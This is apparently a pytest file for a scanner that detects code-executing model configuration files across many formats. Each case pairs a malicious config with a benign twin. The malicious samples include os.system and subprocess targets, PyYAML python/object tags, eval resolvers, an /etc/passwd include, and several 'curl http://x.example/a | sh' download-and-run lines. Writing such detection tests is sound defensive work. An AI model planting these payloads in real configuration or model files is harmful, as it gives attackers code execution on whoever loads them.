"""Configuration that names code, in every spelling, with a benign twin for each."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from tests.cases import each
from tests.engines.modelfiles.building import judged
from tests.engines.modelfiles.configuration.attacks_and_twins import alarms, worst

HEX = "".join(f"\\u{ord(char):04x}" for char in "_target_")
CASES: list[tuple[str, str, Any, Any]] = [
    # What, file name, attack, twin.
    ("block", "c.yaml", "m:\n  _target_: subprocess.Popen\n", "m:\n  _target_: torch.optim.Adam\n"),
    ("flow", "c.yaml", "m: {_target_: os.system, command: id}", "m: {_target_: my_project.models.Net, size: 3}"),
    ("anchor", "c.yaml", "x: &f os.system\nm: {_target_: *f}", "x: &f torch.nn.Linear\nm: {_target_: *f}"),
    ("anchored key", "c.yaml", "k: &k _target_\nm:\n  *k : os.popen\n", "k: &k _target_\nm:\n  *k : torch.nn.ReLU\n"),
    ("merge", "c.yaml", "b: &b {_target_: builtins.exec}\nm: {<<: *b, _args_: [x]}", "b: &b {_target_: torch.nn.ReLU}\nm: {<<: *b}"),
    ("folded", "c.yaml", "_target_: >-\n  os.system\n", "_target_: >-\n  torch.nn.Linear\n"),
    ("literal", "c.yaml", "_target_: |-\n  os.system\n", "_target_: |-\n  my.Net\n"),
    ("escapes", "c.yaml", '"\\x5ftarget_": "os.\\u0073ystem"', '"\\x5ftarget_": "torch.nn.Li\\u006eear"'),
    ("folded escape", "c.yaml", '_target_: "os.sys\\\n  tem"', '_target_: "torch.nn.\\\n  ReLU"'),
    ("explicit key", "c.yaml", "? _target_\n: os.system\n", "? _target_\n: torch.nn.ReLU\n"),
    ("tagged key", "c.yaml", "? !!str _target_\n: !!str os.popen\n", "? !!str _target_\n: !!str torch.nn.ReLU\n"),
    ("repeated key", "c.yaml", "_target_: os.system\n_target_: torch.nn.ReLU\n", "_target_: my.A\n_target_: torch.nn.ReLU\n"),
    ("a key repeated often", "c.json", "{" + '"_target_": "my.A",' * 5000 + '"_target_": "os.system"}', "{" + '"_target_": "my.A",' * 5000 + '"_target_": "my.B"}'),
    ("second document", "c.yaml", "a: 1\n---\n_target_: os.system\n", "a: 1\n---\n_target_: torch.nn.ReLU\n"),
    ("before a break", "c.yaml", "_target_: os.system\nb: [}\n", "_target_: torch.nn.ReLU\nb: []\n"),
    ("JSON escapes", "c.json", f'{{"{HEX}": "os.\\u0073ystem"}}', f'{{"{HEX}": "torch.nn.ReLU"}}'),
    ("UTF-16", "c.json", '{"_target_": "os.system"}'.encode("utf-16"), '{"_target_": "torch.nn.ReLU"}'.encode("utf-16")),
    ("comments", "c.json", '// x\n{"_target_": /* y */ "os.system",}', '// x\n{"_target_": /* y */ "torch.nn.ReLU",}'),
    ("any name", "notes.txt", '{"_target_": "os.system"}', '{"_target_": "torch.nn.ReLU"}'),
    ("no extension", "hparams", "model:\n  _target_: os.system\n  x: 1\n", "model:\n  _target_: torch.nn.ReLU\n  x: 1\n"),
    ("TOML", "c.toml", '[model]\n_target_ = "os.system"\n', '[model]\n_target_ = "torch.nn.ReLU"\n'),
    ("TOML, dotted", "c.toml", 'model."_target_" = "subprocess.check_output"\n', 'model."_target_" = "torch.nn.ReLU"\n'),
    ("TOML, escapes", "c.toml", '["mod\\u0065l"]\n"_t\\u0061rget_" = "subprocess.run"\n', '["model"]\n"_t\\u0061rget_" = "torch.nn.ReLU"\n'),
    ("pyannote", "c.yaml", "pipeline:\n  name: subprocess.getoutput\n  params: {cmd: id}\n", "pipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params: {}\ntool:\n  name: subprocess.run\n  params: {properties: {cmd: {}}}\n"),
    ("a method by its path", "c.yaml", "_target_: hydra.utils.get_method\npath: os.system\n", "_target_: hydra.utils.get_method\npath: torch.nn.functional.relu\n"),
    ("a class by its path", "c.yaml", "_target_: hydra.utils.get_class\npath: subprocess.Popen\n", "_target_: hydra.utils.get_class\npath: torch.nn.Linear\n"),
    ("gin", "a.gin", "import os\ntrain.hook = @os.popen()\n", "import optax\ntrain.optimizer = @optax.adam()\n"),
    ("gin, scope", "a.gin", "train.hook = @a/b/subprocess.run\n", "train.hook = @a/b/my.run\n"),
    ("gin, other name", "a.gin", "import os as helpers\nhelpers.system.command = 'id'\n", "import os as helpers\nhelpers.path.join.a = 'id'\n"),
    ("gin, part of a module", "a.gin", "from os import system\ntrain.hook = @system()\n", "from my import system\ntrain.hook = @system()\n"),
    ("gin, include", "a.gin", "include '/etc/x.gin'\n", "include 'base.gin'\n"),
    ("JSON in a text", "c.json", {"x": '{"y": "{\\"_target_\\": \\"os.system\\"}"}'}, {"x": '{"y": "{\\"_target_\\": \\"torch.nn.ReLU\\"}"}'}),
    ("another module's import", "c.yaml", "_target_: my.utils.os.system", "_target_: my.pickle.PickleDataset"),
    ("the module in C", "c.yaml", "_target_: posix.system", "_target_: posixpath.join"),
    ("Python 2", "c.yaml", "_target_: __builtin__.eval", "_target_: builtins.dict"),
    ("special attribute", "c.yaml", "_target_: my.Net.__init__.__globals__.get", "_target_: my.Net.from_config"),
    ("get_method", "c.yaml", "f: {_target_: hydra.utils.get_method, path: os.system}", "f: {_target_: hydra.utils.get_method, path: torch.relu}"),
    ("get_class", "c.yaml", "f: {_target_: hydra.utils.get_class, path: subprocess.Popen}", "f: {_target_: hydra.utils.get_class, path: my.Net}"),
    ("_locate", "c.yaml", "f: {_target_: hydra._internal.utils._locate, path: os.popen}", "f: {_target_: hydra._internal.utils._locate, path: my.f}"),
    ("starmap", "c.yaml", "f: {_target_: itertools.starmap, function: os.system, iterable: [[id]]}", "f: {_target_: itertools.starmap, function: my.f, iterable: [[1]]}"),
    ("arguments", "c.yaml", "f: {_target_: my.call, _args_: [os.system, id]}", "f: {_target_: my.call, _args_: [torch.relu, 1]}"),
    ("getattr", "c.yaml", "f: {_target_: builtins.getattr, _args_: [x, __globals__]}", "f: {_target_: builtins.getattr, _args_: [x, weight]}"),
    ("a command as argument", "c.yaml", "f: {_target_: my.run, cmd: 'curl http://x.example/a | sh'}", "f: {_target_: my.run, cmd: 'python train.py'}"),
    ("unsafe load", "c.yaml", "f: {_target_: torch.load, f: m.pt}", "f: {_target_: torch.load, f: m.pt, weights_only: true}"),
    ("numpy", "c.yaml", "f: {_target_: numpy.load, file: a.npy, allow_pickle: true}", "f: {_target_: numpy.load, file: a.npy}"),
    ("tables", "c.yaml", "f: {_target_: pandas.read_pickle, x: a}", "f: {_target_: pandas.read_csv, x: a}"),
    ("hub", "c.yaml", "f: {_target_: torch.hub.load, x: a/b}", "f: {_target_: torchvision.models.resnet18}"),
    ("Lightning", "c.yaml", "model:\n  class_path: subprocess.Popen\n  init_args: {args: id}\n", "model:\n  class_path: my.Net\n  init_args: {size: 3}\n"),
    ("torchtune", "c.yaml", "m: {_component_: builtins.exec}", "m: {_component_: torchtune.models.llama3.llama3_8b}"),
    ("target", "c.yaml", "m: {target: os.system, params: {command: id}}", "m: {target: ldm.models.Diffusion, params: {x: 1}}"),
    ("MMEngine", "c.json", {"type": "subprocess.Popen", "args": "id"}, {"type": "ResNet", "depth": 50}),
    ("Kedro", "c.yaml", "a:\n  type: builtins.eval\n", "a:\n  type: pandas.CSVDataset\n"),
    ("Kedro, pickle", "c.yaml", "a:\n  type: joblib.load\n", "a:\n  type: kedro_datasets.pickle.PickleDataset\n"),
    ("Ray Serve", "c.yaml", "applications:\n- import_path: os:system\n", "applications:\n- import_path: my.app:deployment\n"),
    ("Ray hook", "c.yaml", "runtime_env:\n  worker_process_setup_hook: os.system\n", "runtime_env:\n  worker_process_setup_hook: my.setup\n"),
    ("logging", "c.json", {"handlers": {"x": {"()": "os.system", "command": "id"}}}, {"handlers": {"x": {"()": "my.Handler", "stream": "ext://sys.stdout"}}}),
    ("logging class", "c.yaml", "handlers:\n  x: {class: subprocess.Popen}\n", "handlers:\n  x: {class: logging.handlers.RotatingFileHandler}\n"),
    ("jsonpickle", "c.json", {"py/object": "subprocess.Popen", "args": "id"}, {"py/object": "my.Point", "x": 1}),
    ("jsonpickle reduce", "c.json", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}, {"py/reduce": [{"py/type": "my.Point"}, {"py/tuple": [1]}]}),
    ("module and name", "c.json", {"module": "os", "name": "system"}, {"module": "torch.nn", "name": "Linear"}),
    ("Dense", "config.json", {"activation_function": "os.system"}, {"activation_function": "torch.nn.modules.activation.Tanh"}),
    ("pickle tag", "c.yaml", "!!python/object/apply:os.system [id]", "!!python/tuple [1, 2]"),
    ("new", "c.yaml", "!!python/object/new:subprocess.Popen [id]", "!!python/object/new:collections.OrderedDict [[]]"),
    ("name", "c.yaml", "f: !!python/name:os.system", "f: !!python/name:my.f"),
    ("module tag", "c.yaml", "f: !!python/module:subprocess", "f: !!python/module:my.utils"),
    ("object", "c.yaml", "!!python/object:subprocess.Popen {}", "!!python/object:argparse.Namespace {a: 1}"),
    ("verbatim tag", "c.yaml", "!<tag:yaml.org,2002:python/object/apply:os.system> [id]", "!<tag:yaml.org,2002:python/tuple> [1]"),
    ("verbatim module", "c.yaml", "x: !<tag:yaml.org,2002:python/module:subprocess> ''", "x: !<tag:yaml.org,2002:python/module:my.m> ''"),
    ("%TAG", "c.yaml", "%TAG !p! tag:yaml.org,2002:py\n---\n!p!thon/object/new:os.popen [id]", "%TAG !p! tag:yaml.org,2002:py\n---\n!p!thon/tuple [1]"),
    ("tag with escapes", "c.yaml", "!!p%79thon/object/apply:os.system [id]", "!!p%79thon/tuple [1]"),
    ("builtin without a dot", "c.yaml", "!!python/object/apply:eval ['1']", "!!python/object/apply:set [[1]]"),
    ("tag on a key", "c.yaml", "? !!python/object/apply:os.system [id]\n: 1\n", "? !!python/tuple [1]\n: 1\n"),
    ("getattr by tag", "c.yaml", "!!python/object/apply:getattr [a, b]", "!!python/object/apply:my.Enum [1]"),
    ("HyperPyYAML apply", "h.yaml", "x: !apply:os.system [id]", "x: !apply:torch.manual_seed [1]"),
    ("HyperPyYAML new", "h.yaml", "x: !new:subprocess.Popen\n  args: id\n", "x: !new:speechbrain.nnet.CNN\n  n: 3\n"),
    ("HyperPyYAML name", "h.yaml", "x: !name:os.system", "x: !name:torch.nn.functional.relu"),
    ("HyperPyYAML applyref", "h.yaml", "x: !applyref:os.system [id]", "x: !ref <y> * 2"),
    ("HyperPyYAML include", "h.yaml", "x: !include:/etc/passwd", "x: !include:other.yaml"),
    ("resolver", "c.yaml", "x: ${eval:'__import__(\"os\").system(\"id\")'}", "x: ${eval:'${a} * 2'}"),
    ("resolver by name", "c.yaml", "x: ${get_method:os.system}", "x: ${get_class:my.Net}"),
    ("resolver of a shell", "c.yaml", "x: ${shell:curl http://x.example | sh}", "x: ${oc.env:HOME}"),
    ("YOLO", "y.yaml", "backbone:\n- [-1, 1, \"__import__('os').system('id')\", [64]]\n", "backbone:\n- [-1, 1, Conv, [64, 3, 2]]\n- [-1, 1, nn.Upsample, [None, 2, 'nearest']]\n"),
    ("YOLO argument", "y.yaml", "head:\n- [-1, 1, Conv, [\"eval('1')\", 3]]\n", "head:\n- [[17, 20], 1, Detect, [nc, anchors]]\n"),
    ("YOLO activation", "y.yaml", "activation: __import__('os').system('id')\nbackbone: []\n", "activation: nn.LeakyReLU(0.1)\nbackbone: []\n"),
    ("YOLO builtins", "y.yaml", "activation: builtins.open('/tmp/x')\nbackbone: []\n", "activation: builtins.len('/tmp/x')\nbackbone: []\n"),
    ("YOLO getattr", "y.yaml", "activation: getattr(os, 'system')('id')\nbackbone: []\n", "activation: getattr(nn, 'LeakyReLU')(0.1)\nbackbone: []\n"),
    ("download", "d.yaml", "download: |\n  import os\n  os.system('id')\n", "download: |\n  from ultralytics.utils.downloads import download\n  from pathlib import Path\n  dir = Path(yaml['path'])\n  download(['https://x.example/a.zip'], dir=dir, curl=True)\n"),
    ("download, pool", "d.yaml", "download: |\n  import subprocess as s\n  s.run('id')\n", "download: |\n  import numpy as np\n  from concurrent.futures import ThreadPoolExecutor\n  with ThreadPoolExecutor() as p: np.load('a.npy')\n"),
    ("download by shell", "d.yaml", "download: bash -c 'curl http://x.example/a | sh'\n", "download: bash data/scripts/get_coco.sh\n"),
    ("dvc", "dvc.yaml", "stages:\n  a:\n    cmd: wget -qO- http://x.example/a | bash\n", "stages:\n  a:\n    cmd: python train.py --lr 0.1\n"),
]  # fmt: skip


@each(("name", "attack", "twin"), [pytest.param(*case[1:], id=case[0]) for case in CASES])
def test_attacks_are_found_and_twins_are_not(name: str, attack: Any, twin: Any) -> None:
    assert alarms(name, attack)
    assert not alarms(name, twin), worst(name, twin)


def test_each_attack_runs_code() -> None:
    kinds = {worst(name, attack)[1] for _, name, attack, _ in CASES}
    assert kinds == {"config-target", "config-path"}


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        ("_target_: torch.optim.Adam\n", "inert"),
        ("_target_: my_project.Net\n", "unknown"),
        ("_target_: os.system\n", "dangerous"),
        ("x: !!python/name:my.f\n", "unknown"),
        ("a: 1\n", None),
    ],
)
def test_what_is_not_known_makes_a_file_unknown(data: str, verdict: str | None) -> None:
    found = judged(data.encode(), "c.yaml")
    assert (found.verdict if found else None) == verdict


def test_data_is_not_configuration() -> None:
    assert not alarms("a.json", {"text": "call os.system('rm -rf /') or subprocess.run", "target": "how to use os.system in Python", "b": base64.b64encode(b"os.system").decode()})  # fmt: skip
